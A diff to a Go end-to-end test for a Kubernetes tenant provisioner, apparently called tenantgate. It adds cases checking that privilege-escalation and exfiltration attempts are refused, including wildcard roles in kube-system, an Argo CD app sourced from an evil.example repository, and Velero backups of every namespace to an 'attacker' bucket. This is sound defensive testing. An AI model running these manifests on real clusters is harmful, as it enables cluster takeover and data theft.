@@ -93,7 +93,7 @@ func TestKubernetesTenants(t *testing.T) {
 
 	t.Run("apply two tenants", func(t *testing.T) {
 		out := tenantgateCmd(t, true, "tenant", "apply", "--config", cfgPath, "--prov-log", provLog, "--agent", "e2e")
-		if !strings.Contains(out, "45 to create, 0 to update, 0 to delete, 0 unchanged") {
+		if !strings.Contains(out, "41 to create, 0 to update, 0 to delete, 4 unchanged") {
 			t.Fatalf("apply:\n%s", out)
 		}
 		ns, err := dyn.Resource(schema.GroupVersionResource{Version: "v1", Resource: "namespaces"}).Get(ctx, "tenant-"+tenantB, metav1.GetOptions{})
@@ -113,7 +113,7 @@ func TestKubernetesTenants(t *testing.T) {
 		if n := strings.Count(events, "\n"); n != 20 {
 			t.Errorf("%d events for tenant A's 20 objects", n)
 		}
-		checkProvLog(t, provLog, 43)
+		checkProvLog(t, provLog, 41)
 	})
 
 	t.Run("apply again changes nothing", func(t *testing.T) {
@@ -143,11 +143,15 @@ func TestKubernetesTenants(t *testing.T) {
 		kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", ns, "patch", "networkpolicy", "allow-same-namespace", "--type=json", "-p", `[{"op":"add","path":"/spec/ingress/0/from/0/namespaceSelector","value":{}}]`)
 		kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", ns, "delete", "resourcequota", "tenant-quota")
 		kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", ns, "create", "quota", "tenant-quota", "--hard=pods=250", "--scopes=Terminating")
+		// A field outside any list: server-side apply keeps another
+		// manager's, so apply must replace the spec (the update verb).
+		kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", "argocd", "patch", "appproject", ns, "--type=merge", "-p", `{"spec":{"clusterResourceWhitelist":[{"group":"*","kind":"*"}]}}`)
 		out := tenantgateCmd(t, true, "tenant", "plan", "--config", cfgPath)
 		for _, want := range []string{
 			`spec.podSelector.matchLabels: {"x":"y"} → (none)`,
 			`spec.ingress[0].from[0].namespaceSelector: {} → (none)`,
 			`spec.scopes: ["Terminating"] → (none)`,
+			`spec.clusterResourceWhitelist: [{"group":"*","kind":"*"}] → (none)`,
 		} {
 			if !strings.Contains(out, want) {
 				t.Errorf("plan lacks %q:\n%s", want, out)
@@ -159,7 +163,8 @@ func TestKubernetesTenants(t *testing.T) {
 		}
 		got := kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", ns, "get", "networkpolicy", "default-deny", "allow-same-namespace", "-o", "jsonpath={.items[*].spec}")
 		got += kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", ns, "get", "resourcequota", "tenant-quota", "-o", "jsonpath={.spec}")
-		for _, bad := range []string{"matchLabels", "namespaceSelector", "Terminating"} {
+		got += kubectlOK(t, kc, kc.AdminKubeconfig, "", "-n", "argocd", "get", "appproject", ns, "-o", "jsonpath={.spec}")
+		for _, bad := range []string{"matchLabels", "namespaceSelector", "Terminating", "clusterResourceWhitelist"} {
 			if strings.Contains(got, bad) {
 				t.Errorf("after apply the live objects still hold %s: %s", bad, got)
 			}
@@ -419,16 +424,38 @@ spec:
 				[]string{"-n", "kube-system", "create", "role", "pwn", "--verb=*", "--resource=*.*"}},
 			{"a RoleBinding in default", provisioner, "only in namespaces tenantgate made",
 				[]string{"-n", "default", "create", "rolebinding", "pwn", "--role=pwn", "--serviceaccount=tenantgate-system:tenantgate-provisioner"}},
-			{"labelling kube-system as tenantgate's", provisioner, "only in namespaces tenantgate made",
+			{"labelling kube-system as tenantgate's", provisioner, "changes or deletes only those tenantgate made",
 				[]string{"label", "namespace", "kube-system", "app.kubernetes.io/managed-by=tenantgate"}},
-			{"deleting a namespace it did not make", provisioner, "only in namespaces tenantgate made",
+			{"deleting a namespace it did not make", provisioner, "changes or deletes only those tenantgate made",
 				[]string{"delete", "namespace", "argocd"}},
 			{"rewriting the fence", provisioner, "forbidden",
 				[]string{"patch", "validatingadmissionpolicybinding", "tenantgate-provisioner-fence", "--type=merge", "-p", `{"spec":{"validationActions":["Audit"]}}`}},
+			{"an admission policy of its own", provisioner, "forbidden",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingAdmissionPolicy","metadata":{"name":"freeze"},"spec":{"matchConstraints":{"resourceRules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*"]}]},"validations":[{"expression":"false"}]}}`}},
+			{"a NetworkPolicy in kube-system", provisioner, "only in namespaces tenantgate made",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"deny","namespace":"kube-system"},"spec":{"podSelector":{},"policyTypes":["Ingress","Egress"]}}`}},
+			{"a namespace of its own", provisioner, "creates only tenant-* namespaces",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"pwn","labels":{"app.kubernetes.io/managed-by":"tenantgate"}}}`}},
+			{"a privileged tenant namespace", provisioner, "Pod Security baseline or restricted",
+				[]string{"label", "--overwrite", "namespace", "tenant-" + tenantA, "pod-security.kubernetes.io/enforce=privileged"}},
+			{"a default StorageClass", provisioner, "never a default one",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"storage.k8s.io/v1","kind":"StorageClass","metadata":{"name":"tenant-pwn","annotations":{"storageclass.kubernetes.io/is-default-class":"true"}},"provisioner":"ebs.csi.aws.com"}`}},
+			{"an Argo CD project for the cluster", provisioner, "confined to the namespace of their name",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"AppProject","metadata":{"name":"tenant-pwn","namespace":"argocd"},"spec":{"sourceRepos":["*"],"destinations":[{"server":"*","namespace":"*"}],"clusterResourceWhitelist":[{"group":"*","kind":"*"}]}}`}},
+			{"an Argo CD application into kube-system", provisioner, "confined to the namespace of their name",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"tenant-pwn","namespace":"argocd"},"spec":{"project":"default","source":{"repoURL":"https://evil.example/x.git","path":"."},"destination":{"server":"https://kubernetes.default.svc","namespace":"kube-system"}}}`}},
+			{"a backup of every namespace", provisioner, "each schedule backing up the namespace of its name",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"Schedule","metadata":{"name":"tenant-pwn","namespace":"velero"},"spec":{"schedule":"@hourly","template":{"includedNamespaces":["*"],"includeClusterResources":true,"storageLocation":"tenant-pwn"}}}`}},
+			{"a backup location of another name", provisioner, "only tenant-* Velero objects",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"BackupStorageLocation","metadata":{"name":"exfil","namespace":"velero"},"spec":{"provider":"aws","objectStorage":{"bucket":"attacker"}}}`}},
 			{"the gateway writing RBAC", gateway, "forbidden",
 				[]string{"-n", "tenant-" + tenantA, "create", "role", "pwn", "--verb=get", "--resource=secrets"}},
 		} {
-			out, err := kc.Kubectl(ctx, c.kubeconfig, "", c.args...)
+			args, stdin := c.args, ""
+			if last := args[len(args)-1]; strings.HasPrefix(last, "<") {
+				args, stdin = args[:len(args)-1], last[1:]
+			}
+			out, err := kc.Kubectl(ctx, c.kubeconfig, stdin, args...)
 			if err == nil || !strings.Contains(strings.ToLower(out), strings.ToLower(c.want)) {
 				t.Errorf("%s: err=%v, want refused (%q):\n%s", c.name, err, c.want, out)
 			}
